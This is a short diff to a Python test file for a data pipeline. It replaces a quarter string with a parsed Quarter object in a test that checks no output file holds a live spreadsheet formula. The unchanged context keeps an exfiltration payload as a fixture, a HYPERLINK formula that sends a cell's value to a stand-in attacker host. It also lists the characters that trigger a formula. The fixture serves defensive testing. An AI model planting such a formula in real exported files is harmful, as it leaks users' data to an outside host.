@@ -19,6 +19,7 @@ from tests.conftest import GOLDEN
 from vcc.flows.qaf.form import FormCase, read_form, write_form
 from vcc.transforms.cell_text import neutralise, recover
 from vcc.transforms.qaf import THEMES
+from vcc.transforms.quarters import Quarter
 
 ACTIVE = ("=", "+", "-", "@", "\t", "\r")
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -90,7 +91,7 @@ def test_no_file_of_a_run_holds_a_live_formula(prefect_harness, tmp_path):
         encoding="utf-8",
     )
 
-    run_quarter("2024Q2", dt.date(2024, 7, 12), config, tmp_path / "out")
+    run_quarter(Quarter.parse("2024Q2"), dt.date(2024, 7, 12), config, tmp_path / "out")
 
     out = tmp_path / "out" / "2024Q2"
     quarantine = _rows(out / "quarantine" / "police.referrals.csv")
